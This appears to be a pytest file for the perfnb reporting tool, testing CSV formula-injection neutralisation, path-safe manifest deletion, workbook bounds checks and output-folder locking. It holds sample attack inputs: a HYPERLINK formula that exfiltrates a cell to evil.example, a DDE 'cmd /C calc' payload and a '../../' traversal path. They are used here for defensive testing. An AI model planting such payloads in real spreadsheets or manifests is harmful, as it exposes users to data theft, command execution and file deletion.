"""Safe by default (issue 16): exported CSVs carry no live formulas, and perfnb deletes nothing
outside its output folder whatever manifest.json says."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pandas as pd
import pytest

from conftest import write_dataset
from perfnb.cli import main
from perfnb.files import FORMULA_STARTS, csv_text, neutralise_formulas

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
COMMAND = "+cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        (COMMAND, "'" + COMMAND),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("-2+3", "'-2+3"),
        ("\tindented", "'\tindented"),
        ("\rreturn", "'\rreturn"),
        ("- a bullet", "'- a bullet"),
        ("-9.8", "-9.8"),  # numbers stay numbers
        ("-16%", "-16%"),
        ("+1,200.5", "+1,200.5"),
        ("Help Direct", "Help Direct"),
        ("a=b", "a=b"),  # only the first character matters
        ("", ""),
    ],
)
def test_a_cell_that_would_run_as_a_formula_is_neutralised(cell, written) -> None:
    """OWASP's rule: a text cell starting with =, +, -, @, tab or carriage return gets a
    leading apostrophe, unless it is a number."""
    assert neutralise_formulas(pd.Series([cell], dtype=object)).iloc[0] == written


def test_csv_text_leaves_numbers_and_blanks_alone() -> None:
    """Numeric columns are written as numbers (-9.8), blanks stay blank, headings are checked
    too."""
    frame = pd.DataFrame({"=name": [HYPERLINK, None], "variance": [-9.8, 2.0]})
    rows = list(csv.reader(csv_text(frame).splitlines()))
    assert rows == [["'=name", "variance"], ["'" + HYPERLINK, "-9.8"], ["", "2.0"]]


def _cells(path: Path) -> list[str]:
    """Every cell of a CSV file, headings included."""
    with open(path, newline="", encoding="utf-8-sig") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def _is_number(cell: str) -> bool:
    try:
        float(cell.replace(",", "").rstrip("%"))
    except ValueError:
        return False
    return True


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory) -> Path:
    """A run whose measure names, notes, action titles, leads and progress are formulas."""
    root = tmp_path_factory.mktemp("hostile")
    data = write_dataset(
        root / "data",
        {
            "measures.csv": (
                "measure_id,name,service,theme,framework,unit,polarity,aggregation,frequency\n"
                f'M1,"{HYPERLINK.replace(chr(34), chr(34) * 2)}",Help Desk,"@theme",Local,count,'
                "high,sum,quarterly\n"
            ),
            "values.csv": (
                "measure_id,period,value,note\nM1,2017/18 Q1,100,\"-cmd|' /C calc'!A0\"\n"
            ),
            "targets.csv": "measure_id,year,target\nM1,2017/18,1000\n",
            "actions.csv": (
                "action_id,title,service,lead_officer,deadline\n"
                f'A1,"{COMMAND}",Help Desk,@SUM(1),31-Mar-2018\n'
            ),
            "action_updates.csv": (
                "action_id,period,status,pct_complete,progress\nA1,2017/18 Q1,On target,20,=1+1\n"
            ),
        },
    )
    out = root / "out"
    assert main(["run", "--data", str(data), "--out", str(out), "--workers", "1"]) == 0
    return out / "2017-18-Q1"


def test_every_exported_csv_is_safe_to_open(hostile_run) -> None:
    """scorecard.csv, actions.csv and every table's CSV: no cell starts a formula, a cell
    starting with - or + is a number, and the hostile texts are there, neutralised."""
    files = [
        hostile_run / "scorecard.csv",
        hostile_run / "actions.csv",
        *sorted((hostile_run / "tables").rglob("*.csv")),
    ]
    assert len(files) >= 4
    seen = []
    for path in files:
        for cell in _cells(path):
            seen.append(cell)
            if cell.startswith(FORMULA_STARTS):
                assert cell[0] in "-+" and _is_number(cell), f"{path.name}: {cell!r}"
    assert "'" + HYPERLINK in seen
    assert "'" + COMMAND in seen
    assert "'@SUM(1)" in seen
    assert "'=1+1" in seen


def test_a_manifest_cannot_delete_outside_the_output_folder(tmp_path, capsys) -> None:
    """A rebuilt report deletes the files its manifest entry lists and it no longer makes, but
    only inside the output folder: ../../victim/precious.txt and an absolute path survive, with
    a warning."""
    data = write_dataset(
        tmp_path / "data",
        {
            "measures.csv": (
                "measure_id,name,service,theme,framework,unit,polarity,aggregation,frequency\n"
                "M1,Contacts,Help Desk,Access,Local,count,high,sum,quarterly\n"
            ),
            "values.csv": "measure_id,period,value\nM1,2017/18 Q1,100\n",
            "targets.csv": "measure_id,year,target\nM1,2017/18,400\n",
        },
    )
    out = tmp_path / "out"
    victim = tmp_path / "victim"
    victim.mkdir()
    precious, absolute = victim / "precious.txt", victim / "absolute.txt"
    precious.write_text("keep me", encoding="utf-8")
    absolute.write_text("keep me too", encoding="utf-8")
    args = ["run", "--data", str(data), "--out", str(out), "--workers", "1"]
    assert main(args) == 0
    folder = out / "2017-18-Q1"
    stale = folder / "tables" / "help-desk" / "old-table.csv"
    stale.write_text("gone", encoding="utf-8")
    manifest = json.loads((folder / "manifest.json").read_text(encoding="utf-8"))
    entry = manifest["reports"][0]
    entry["files"] += ["../../victim/precious.txt", str(absolute), "tables/help-desk/old-table.csv"]
    (folder / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
    capsys.readouterr()
    assert main([*args, "--force"]) == 0
    said = capsys.readouterr()
    assert precious.read_text(encoding="utf-8") == "keep me"
    assert absolute.read_text(encoding="utf-8") == "keep me too"
    assert not stale.exists()  # inside the folder, no longer made: deleted as before
    assert "'../../victim/precious.txt', outside" in said.out + said.err


def _workbook_with(folder: Path, corner) -> Path:
    """A small valid perfnb.xlsx with ``corner(measures_sheet)`` applied."""
    from openpyxl import Workbook

    book = Workbook()
    book.remove(book.active)
    rows = {
        "measures": [
            [
                "measure_id",
                "name",
                "service",
                "theme",
                "framework",
                "unit",
                "polarity",
                "aggregation",
                "frequency",
            ],
            ["M1", "Contacts", "Help Desk", "Access", "Local", "count", "high", "sum", "quarterly"],
        ],
        "values": [["measure_id", "period", "value"], ["M1", "2017/18 Q1", 100]],
        "targets": [["measure_id", "year", "target"], ["M1", "2017/18", 400]],
    }
    for name, cells in rows.items():
        sheet = book.create_sheet(name)
        for row in cells:
            sheet.append(row)
    corner(book["measures"])
    folder.mkdir(parents=True)
    book.save(folder / "perfnb.xlsx")
    return folder


@pytest.mark.parametrize(
    ("corner", "message"),
    [
        (
            lambda sheet: sheet.cell(1048576, 16384, "x"),
            "perfnb.xlsx: sheet measures has data in row 1,048,576; perfnb reads at most "
            "1,000,000 rows: delete the rows below the data",
        ),
        (
            lambda sheet: sheet.cell(3, 600, "x"),
            "perfnb.xlsx: sheet measures has data in column WB of row 3; perfnb reads at most 500 "
            "columns: delete the columns to the right of the data",
        ),
    ],
)
def test_a_sheet_with_data_beyond_its_bounds_is_refused(tmp_path, capsys, corner, message) -> None:
    """A 6 KB workbook whose one stray cell sits in the sheet's far corner (or column 600, WB)
    is an error naming the sheet, not a grid of a million rows by 16,384 columns."""
    folder = _workbook_with(tmp_path / "data", corner)
    assert main(["validate", "--data", str(folder)]) == 1
    assert message in capsys.readouterr().err


def test_a_sheet_claiming_its_corner_without_data_is_read(tmp_path, capsys) -> None:
    """A formatted but empty corner cell (the file claims A1:XFD1048576) holds no data: the
    workbook validates."""

    def styled(sheet) -> None:
        sheet.cell(1048576, 16384).number_format = "0.00"

    folder = _workbook_with(tmp_path / "data", styled)
    assert main(["validate", "--data", str(folder)]) == 0


# -- data that validates must run (issue 16, point 6) ------------------------------------------

MEASURES_HEAD = "measure_id,name,service,theme,framework,unit,polarity,aggregation,frequency\n"
QUARTERLY = MEASURES_HEAD + "M1,Contacts,Help Desk,Access,Local,count,high,sum,quarterly\n"


def _validate(tmp_path: Path, capsys, files: dict[str, str | bytes]) -> tuple[int, str]:
    """``perfnb validate`` on a data set of these files: its exit code and what it printed."""
    folder = tmp_path / "data"
    folder.mkdir(parents=True, exist_ok=True)
    for name, content in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content, encoding="utf-8")
    code = main(["validate", "--data", str(folder)])
    said = capsys.readouterr()
    assert "Traceback" not in said.out + said.err
    return code, said.out + said.err


BASE = {
    "measures.csv": QUARTERLY,
    "values.csv": "measure_id,period,value\nM1,2017/18 Q1,100\n",
    "targets.csv": "measure_id,year,target\nM1,2017/18,400\n",
}


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        (
            {"values.csv": "measure_id,period,value\nM1,2018-04,100\n"},
            "values.csv, row 2, column period: '2018-04' is a month, but the measure is "
            "quarterly; give the quarter's figure (2017/18 Q1), or make the measure monthly in "
            "measures.csv",
        ),
        (
            {"values.csv": "measure_id,period,value\n"},
            "values.csv: has a header but no rows; expected a row per figure",
        ),
        (
            {
                "measures.csv": MEASURES_HEAD
                + f"M1,Contacts,{'Help Desk ' * 30},Access,Local,count,high,sum,quarterly\n"
            },
            "measures.csv, row 2, column service: is too long to name a file (over 100 letters "
            "and digits); shorten it",
        ),
        (
            {"commentary/2017-18-Q1.md": "## M1\n\nCaf\xe9 opened.\n".encode("cp1252")},
            "commentary/2017-18-Q1.md: is not UTF-8 text (byte 0xe9 on line 3); save it with the "
            "encoding UTF-8 and run again",
        ),
    ],
)
def test_what_the_run_would_refuse_validate_refuses(tmp_path, capsys, changes, message) -> None:
    """Each of these passed validate and then broke the run; now validate names it and exits 1."""
    code, said = _validate(tmp_path, capsys, {**BASE, **changes})
    assert code == 1
    assert message in said


def test_a_folder_named_dataset_toml_is_named(tmp_path, capsys) -> None:
    """dataset.toml that is a folder is an error saying so, not a traceback."""
    (tmp_path / "data" / "dataset.toml").mkdir(parents=True)
    code, said = _validate(tmp_path, capsys, BASE)
    assert code == 1
    assert "dataset.toml: is not a file (a folder?); expected a TOML text file" in said


def test_excels_unicode_text_is_read(tmp_path, capsys) -> None:
    """values.csv saved by Excel as "Unicode Text" (UTF-16 with a byte-order mark, tabs): read
    as it is, 100 contacts at Q1."""
    text = "measure_id\tperiod\tvalue\r\nM1\t2017/18 Q1\t100\r\n"
    code, said = _validate(tmp_path, capsys, {**BASE, "values.csv": text.encode("utf-16")})
    assert code == 0, said
    from perfnb import load_dataset

    values = load_dataset(tmp_path / "data").values
    assert list(values["value"]) == [100.0]


def test_an_unsaved_formula_in_a_text_column_is_an_error(tmp_path, capsys) -> None:
    """A name written as a formula by a program (no saved result) is not read as its formula
    text: an error at the sheet, row and column."""

    def formula_name(sheet) -> None:
        sheet["B2"] = '=CONCAT("Con","tacts")'

    folder = _workbook_with(tmp_path / "data", formula_name)
    assert main(["validate", "--data", str(folder)]) == 1
    assert (
        'perfnb.xlsx, sheet measures, row 2, column name: \'=CONCAT("Con","tacts")\' is a '
        "formula whose result was never saved"
    ) in capsys.readouterr().err


# -- one run at a time per output folder (issue 16, point 7) -------------------------------------

HOLDER = """
import sys, time
from perfnb.run.output_lock import output_lock
with output_lock(sys.argv[1], 0, "2017-07-01T09:00:00"):
    print("held", flush=True)
    time.sleep(float(sys.argv[2]))
"""


def _hold(folder: Path, seconds: float):
    """Another process holding ``folder``'s lock for ``seconds``; returned once it holds it."""
    import subprocess
    import sys

    holder = subprocess.Popen(
        [sys.executable, "-c", HOLDER, str(folder), str(seconds)],
        stdout=subprocess.PIPE,
        text=True,
    )
    assert holder.stdout.readline().strip() == "held"
    return holder


def _tiny_data(root: Path) -> Path:
    return write_dataset(
        root / "data",
        {
            "measures.csv": QUARTERLY,
            "values.csv": "measure_id,period,value\nM1,2017/18 Q1,100\n",
            "targets.csv": "measure_id,year,target\nM1,2017/18,400\n",
        },
    )


def test_a_second_run_into_a_busy_folder_stops_naming_the_first(tmp_path, capsys) -> None:
    """While another run holds the output folder, a run exits 1 naming its process and writes
    nothing; once that run is killed (kill -9: its lock goes with it), the next run builds."""
    import signal

    data, out = _tiny_data(tmp_path), tmp_path / "out"
    holder = _hold(out, 120)
    try:
        code = main(["run", "--data", str(data), "--out", str(out), "--workers", "1"])
        said = capsys.readouterr().err
        assert code == 1
        assert f"is in use by perfnb run (process {holder.pid}, started 2017-07-01T09:00:00)" in (
            said
        )
        written = [p for p in out.rglob("*") if p.is_file() and not p.name.startswith(".perfnb")]
        assert written == []
    finally:
        holder.send_signal(signal.SIGKILL)
        holder.wait(timeout=60)
    assert main(["run", "--data", str(data), "--out", str(out), "--workers", "1"]) == 0
    assert (out / "2017-18-Q1" / "scorecard-help-desk.html").exists()


def test_a_run_told_to_wait_builds_after_the_first(tmp_path) -> None:
    """With --wait, a run waits for the folder's other run to finish, then builds."""
    data, out = _tiny_data(tmp_path), tmp_path / "out"
    holder = _hold(out, 2)
    args = ["run", "--data", str(data), "--out", str(out), "--workers", "1", "--wait", "120"]
    assert main(args) == 0
    assert holder.wait(timeout=60) == 0
    assert (out / "2017-18-Q1" / "scorecard-help-desk.html").exists()
